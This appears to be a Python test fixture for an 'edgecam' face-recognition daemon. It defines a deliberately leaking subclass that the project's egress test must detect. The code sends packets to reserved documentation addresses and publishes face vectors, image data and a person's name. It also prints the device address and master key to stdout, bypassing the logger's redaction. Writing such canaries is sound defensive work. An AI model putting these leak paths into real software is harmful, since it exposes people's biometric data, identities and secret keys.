"""An `edgecam` that leaks in every way the egress test knows of: what that test must find, or it proves nothing."""

from __future__ import annotations

import base64
import contextlib
import json
import socket
import sys
from typing import Dict

import cv2

from edgecam.daemon import app

INTERNET, INTERNET6 = "192.0.2.1", "2001:db8::1"
"""Of no house (RFC 5737, RFC 3849)."""

TOPIC = "edgecam/edgecam/leak/"
LEAKS: Dict[str, str] = {
    TOPIC + "half": "a vector",
    TOPIC + "text": "a vector as numbers",
    TOPIC + "base64": "a picture",
    TOPIC + "jpeg": "looks like a JPEG",
    TOPIC + "name": "a name",
    "LEAK-ADDRESS": "an address",
    "LEAK-KEY": "a key",
}
"""Topic, or how a line in the log begins -> what is to be found there."""


class Leaking(app.Daemon):
    """The daemon, and what it must not do."""

    def _start(self) -> None:
        super()._start()
        for family, address in ((socket.AF_INET, INTERNET), (socket.AF_INET6, INTERNET6)):
            with contextlib.suppress(OSError), socket.socket(family, socket.SOCK_DGRAM) as sock:
                sock.sendto(b"leak", (address, 53))
        self._held = socket.socket()
        self._held.setblocking(False)
        self._held.connect_ex((INTERNET, 443))
        store = self._store
        (person,) = store.people()
        gallery = store.gallery(self._shared.stages.encoder.version)
        image = store.crop(store.faces(person.id)[0].id).image
        (device,) = store.devices()
        vector = gallery.vectors[0]
        jpeg = cv2.imencode(".jpg", image)[1].tobytes()
        for topic, payload in {
            "half": vector[:64].astype("<f2").tobytes(),
            "text": json.dumps([round(float(x), 5) for x in vector[:32]]).encode(),
            "base64": base64.urlsafe_b64encode(image[: image.shape[0] // 2].tobytes()),
            "jpeg": jpeg[:500],
            "name": json.dumps({"reason": f"it is {person.name.split()[0]}"}).encode(),
        }.items():
            self._alerts._set_state(TOPIC + topic, payload)
        # Not by the logger, which knows addresses when it sees them.
        print(f"LEAK-ADDRESS {device.address.replace(':', '-').upper()}")
        print(f"LEAK-KEY {store._master.key.hex()}", flush=True)


if __name__ == "__main__":
    from edgecam.__main__ import main

    app.Daemon = Leaking  # type: ignore[misc]
    sys.exit(main(sys.argv[1:]))
